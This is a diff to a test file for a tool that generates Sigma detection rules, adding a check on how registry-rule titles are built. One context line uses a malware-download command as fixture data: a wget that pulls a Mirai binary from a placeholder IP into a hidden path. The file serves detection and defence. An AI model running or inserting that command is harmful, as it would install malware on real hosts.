@@ -115,6 +115,20 @@ describe('builtin SigmaAgent templates', () => {
     expect(selectionOf(keys(`HKCU\\${clsid}`, clsid))).toEqual({ 'TargetObject|contains': `\\${clsid}`, 'TargetObject|endswith': '\\Updater' });
   });
 
+  it('titles a registry rule with the value and the key it is set under, or a key with its parent', () => {
+    const titleOf = (key: Partial<NonNullable<BuiltinSigmaInput['registryKeys']>[number]>) => {
+      const registryKeys = [{ ...item, hive: 'HKLM' as const, ...key }] as BuiltinSigmaInput['registryKeys'];
+      return must(generateBuiltinRules({ ...input, cmdlines: [], registryKeys }).find((draft) => draft.telemetryClass === 'registry_set')).title;
+    };
+    const terminal = 'SYSTEM\\CurrentControlSet\\Control\\Terminal Server';
+    expect(titleOf({ value: `HKLM\\${terminal}`, path: terminal, value_name: 'fDenyQuillConnections' })).toBe('Registry Value fDenyQuillConnections Set Under Terminal Server');
+    expect(titleOf({ value: `HKLM\\${terminal}\\fDenyQuillConnections`, path: `${terminal}\\fDenyQuillConnections`, value_name: 'fDenyQuillConnections' })).toBe(
+      'Registry Value fDenyQuillConnections Set Under Terminal Server',
+    );
+    const service = 'SYSTEM\\CurrentControlSet\\Services\\QuillRelay';
+    expect(titleOf({ value: `HKLM\\${service}`, path: service, value_name: undefined })).toBe('Registry Key QuillRelay Set Under Services');
+  });
+
   it('skips Windows-only classes for a Linux article and uses the linux product', () => {
     const linux = generateBuiltinRules({ ...input, platform: 'linux', processPairs: [], cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }] });
     const classes = linux.map((draft) => draft.telemetryClass);
